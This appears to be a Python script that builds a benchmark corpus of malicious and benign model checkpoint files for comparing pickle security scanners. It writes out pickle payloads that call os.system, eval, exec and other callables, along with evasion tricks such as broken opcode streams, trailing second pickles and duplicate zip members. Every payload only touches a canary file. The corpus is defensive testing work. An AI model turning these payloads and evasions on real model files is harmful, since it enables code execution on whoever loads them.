"""The corpus benchmarks/scanner_compare.py runs every scanner over: malicious files (every opcode path
that reaches code, protocols 0–5, bare, inside torch zips and legacy torch files, after a benign pickle,
before a break, in NumPy object arrays, joblib, zip tricks) and benign real checkpoints (torch zip and
legacy, safetensors, Keras .keras and .h5, npz of numbers). Every payload would `touch` a canary file.

    python benchmarks/scanner_corpus.py OUT_DIR
"""

from __future__ import annotations

import argparse
import io
import os
import pickle
import struct
import sys
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import torch


class Call:
    """Pickles as `func(*args)`: what an attacker's __reduce__ returns."""

    def __init__(self, func: Callable, *args: object):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def command(canary: Path) -> bytes:
    return f"touch {canary}".encode()


def text(value: bytes) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value


def system_call(canary: Path) -> bytes:
    """GLOBAL os system; the command; TUPLE1; REDUCE — no STOP."""
    return b"\x80\x02cos\nsystem\n" + text(command(canary)) + b"\x85R"


def callables(canary: Path) -> dict[str, Call]:
    """Ways to run a command that a block-list has to know by name."""
    cmd = command(canary).decode()
    python = f"__import__('os').system({cmd!r})"
    import cProfile
    import pydoc
    import runpy
    import subprocess
    import timeit

    return {
        "os.system": Call(os.system, cmd),
        "subprocess.Popen": Call(subprocess.Popen, ["touch", str(canary)]),
        "builtins.eval": Call(eval, python),
        "builtins.exec": Call(exec, python),
        "timeit.timeit": Call(timeit.timeit, python, "pass", None, 1),
        "cProfile.run": Call(cProfile.run, python),
        "pydoc.pipepager": Call(pydoc.pipepager, "", cmd),
        "runpy._run_code": Call(runpy._run_code, python, {}),
    }


def opcode_paths(canary: Path) -> dict[str, bytes]:
    s = text(command(canary))
    return {
        "inst": b"(S'" + command(canary) + b"'\nios\nsystem\n.",
        "obj": b"(cos\nsystem\n" + s + b"o.",
        "newobj": b"\x80\x02cos\nsystem\n" + s + b"\x85\x81.",
        "newobj-ex": b"\x80\x04\x8c\x02os\x8c\x06system\x93" + s + b"\x85}\x92.",
        "stack-global-from-memo": b"\x80\x04\x8c\x02os\x94\x8c\x06system\x9400h\x00h\x01\x93" + s + b"\x85R.",
        "getattr-import-chain": b"\x80\x02cbuiltins\ngetattr\ncbuiltins\n__import__\nX\x02\x00\x00\x00os\x85R"
        b"X\x06\x00\x00\x00system\x86R" + s + b"\x85R.",
        "build-rewrites-module": b"\x80\x02ctorch\n_utils\n}X\x04\x00\x00\x00evalcbuiltins\neval\nsb.",
        "break-memo": system_call(canary) + b"0h\x03.",
        "break-invalid-opcode": system_call(canary) + b"0\xff.",
        "break-stack-global-on-int": system_call(canary) + b"K\x01K\x02\x93.",
        "break-truncated-string": system_call(canary) + b"X\x00\x00\x01\x00abc",
        "trailing-second-pickle": pickle.dumps([1, 2, 3], protocol=2) + system_call(canary) + b".",
    }


def torch_bytes(obj: object, legacy: bool = False) -> bytes:
    buffer = io.BytesIO()
    torch.save(obj, buffer, _use_new_zipfile_serialization=not legacy)
    return buffer.getvalue()


def duplicate_member(canary: Path) -> bytes:
    """A torch zip whose archive/data.pkl appears twice: the malicious copy first, the benign one last."""
    benign = zipfile.ZipFile(io.BytesIO(torch_bytes({"w": torch.ones(2)})))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for info in benign.infolist():
            if info.filename.endswith("/data.pkl"):
                z.writestr(info.filename, system_call(canary) + b".")
            z.writestr(info.filename, benign.read(info.filename))
    return out.getvalue()


def in_zip(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr(name, data)
    return out.getvalue()


def malicious(canary: Path) -> dict[str, bytes]:
    files: dict[str, bytes] = {}
    for name, call in callables(canary).items():
        for protocol in range(6):
            files[f"{name}-p{protocol}.pkl"] = pickle.dumps({"w": [1.0], "x": call}, protocol=protocol)
    files.update({f"{name}.pkl": data for name, data in opcode_paths(canary).items()})
    payload = Call(os.system, command(canary).decode())
    for protocol in range(6):
        raw = pickle.dumps({"w": [0.5], "x": payload}, protocol=protocol)
        files[f"zip-data-pkl-p{protocol}.pt"] = in_zip("archive/data.pkl", raw)
        files[f"legacy-trailing-p{protocol}.pt"] = torch_bytes({"w": torch.ones(2)}, legacy=True) + raw
    files["torch-zip-payload.pt"] = torch_bytes({"w": torch.ones(3), "x": payload})
    files["torch-legacy-payload.pt"] = torch_bytes({"w": torch.ones(3), "x": payload}, legacy=True)
    files["zip-duplicate-member.pt"] = duplicate_member(canary)
    files["pickle-before-zip.pt"] = system_call(canary) + b"." + torch_bytes({"w": torch.ones(2)})
    buffer = io.BytesIO()
    np.save(buffer, np.array([1, payload], dtype=object), allow_pickle=True)
    files["object-array.npy"] = buffer.getvalue()
    files["object-array.npz"] = in_zip("x.npy", buffer.getvalue())
    try:
        import joblib

        buffer = io.BytesIO()
        joblib.dump({"w": np.arange(4.0), "x": payload}, buffer)
        files["joblib-payload.joblib"] = buffer.getvalue()
    except ImportError:
        print("joblib not installed: no joblib case", file=sys.stderr)
    return files


def benign(out: Path) -> list[str]:
    """Real checkpoints written by their own libraries."""
    from safetensors.torch import save_file

    model = torch.nn.Sequential(
        torch.nn.Conv2d(1, 8, 3), torch.nn.ReLU(), torch.nn.Flatten(), torch.nn.Linear(5408, 10)
    )
    optimizer = torch.optim.Adam(model.parameters())
    model(torch.zeros(2, 1, 28, 28)).sum().backward()
    optimizer.step()
    state = {"model": model.state_dict(), "optimizer": optimizer.state_dict(), "epoch": 3}
    torch.save(state, out / "torch-zip.pt")
    torch.save(state, out / "torch-legacy.pt", _use_new_zipfile_serialization=False)
    torch.save(model.state_dict(), out / "state-dict.pth")
    save_file(model.state_dict(), str(out / "model.safetensors"))
    np.savez(out / "numbers.npz", **{k: v.numpy() for k, v in model.state_dict().items()})
    np.savez_compressed(out / "numbers-compressed.npz", w=np.arange(1000.0))
    np.save(out / "numbers.npy", np.ones((3, 4), dtype=np.float32))
    names = ["torch-zip.pt", "torch-legacy.pt", "state-dict.pth", "model.safetensors", "numbers.npz"]
    names += ["numbers-compressed.npz", "numbers.npy"]
    try:
        os.environ.setdefault("KERAS_BACKEND", "torch")
        import keras

        mlp = keras.Sequential([keras.Input((784,)), keras.layers.Dense(16, activation="relu"), keras.layers.Dense(10)])
        mlp.compile(optimizer="adam", loss="mse")
        mlp.save(out / "mlp.keras")
        mlp.save(out / "mlp.h5")
        names += ["mlp.keras", "mlp.h5"]
    except ImportError:
        print("keras not installed: no Keras files", file=sys.stderr)
    return names


def build(out: Path, canary: Path) -> tuple[list[str], list[str]]:
    """Write the corpus under out/malicious and out/benign; the names of each."""
    (out / "malicious").mkdir(parents=True, exist_ok=True)
    (out / "benign").mkdir(parents=True, exist_ok=True)
    bad = malicious(canary)
    for name, data in bad.items():
        (out / "malicious" / name).write_bytes(data)
    return sorted(bad), benign(out / "benign")


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("out", type=Path)
    args = parser.parse_args()
    bad, good = build(args.out, args.out / "CANARY")
    print(f"{len(bad)} malicious, {len(good)} benign files under {args.out}")
